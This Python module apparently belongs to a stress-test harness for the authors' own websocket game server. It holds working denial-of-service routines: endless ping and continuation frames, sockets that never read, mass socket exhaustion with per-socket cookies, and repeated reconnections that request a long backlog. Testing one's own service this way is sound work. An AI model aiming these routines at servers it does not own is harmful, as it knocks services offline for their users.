"""Attacks on sockets: frames written by hand, readers that never read, visitors who come back again and again."""

from __future__ import annotations

import asyncio
import contextlib
import time
from typing import Any

from websockets.asyncio.client import connect

from .target import ATTACKER, LONG, PLIES, Target, attack, discard, frame


async def frames(target: Target, first: bytes, endless: bytes, count: int = 4) -> str:
    sent = opened = 0

    async def one() -> None:
        nonlocal sent, opened
        while target.on:
            try:
                reader, writer = await target.upgraded(LONG)
            except (OSError, EOFError):
                await asyncio.sleep(0.05)
                continue
            opened += 1
            drain = asyncio.create_task(discard(reader))
            try:
                writer.write(first)
                while target.on and not drain.done():
                    writer.write(endless)
                    sent += len(endless)
                    await asyncio.wait_for(writer.drain(), max(0.01, target.end - time.monotonic()))
            except (OSError, TimeoutError):
                pass
            finally:
                drain.cancel()
                writer.close()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(count)))
    return f"{sent / 1e6:.0f} MB on {opened} sockets"


@attack
async def pings(target: Target) -> str:
    """Websocket pings without end."""
    return await frames(target, b"", frame(9) * 4000)


@attack
async def continuations(target: Target) -> str:
    """A message in empty pieces without end."""
    return await frames(target, frame(1, b"{", fin=False), frame(0, fin=False) * 4000)


@attack
async def more(target: Target) -> str:
    """A hundred sockets that ask for what may be touched, and never read."""
    async with target.client() as client:
        made = (await client.post("/api/tables", json={"game": "bilitaire", "seats": [{"kind": "here"}] * 2})).json()
    writers: list[asyncio.StreamWriter] = []
    readers: list[asyncio.StreamReader] = []
    for number in range(100):
        with contextlib.suppress(OSError, EOFError):
            reader, writer = await target.upgraded(made["table"], f"billes={number:043d}")
            writers.append(writer)
            readers.append(reader)
    message = frame(1, b'{"type":"more","touched":[]}')
    while target.on:
        for writer in writers:
            if not writer.is_closing() and writer.transport.get_write_buffer_size() < 100_000:
                writer.write(message * 2)
        await asyncio.sleep(0.1)
    return f"{len(writers)} sockets"


@attack
async def all_sockets(target: Target) -> str:
    """As many sockets as there can be, each with a cookie of its own."""
    held: list[Any] = []
    while target.on and len(held) < 4_100:
        try:
            held.append(await target.upgraded(LONG, f"billes={len(held):043d}"))
        except (OSError, EOFError):
            await asyncio.sleep(0.1)
    while target.on:
        await asyncio.sleep(0.1)
    return f"{len(held)} upgraded"


@attack
async def coming_back(target: Target) -> str:
    """Sockets that come back to a long game and have missed a lot."""
    count = 0

    async def one(number: int) -> None:
        nonlocal count
        while target.on:
            with contextlib.suppress(OSError, TimeoutError, Exception):
                address = f"{target.url.replace('http', 'ws')}/api/tables/{LONG}/live?seen={PLIES - 150}"
                async with connect(address, local_addr=(ATTACKER, 0), max_size=None) as socket:
                    await asyncio.wait_for(socket.recv(), 10)
                    count += 1
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one(number) for number in range(10)))
    return f"{count} times"
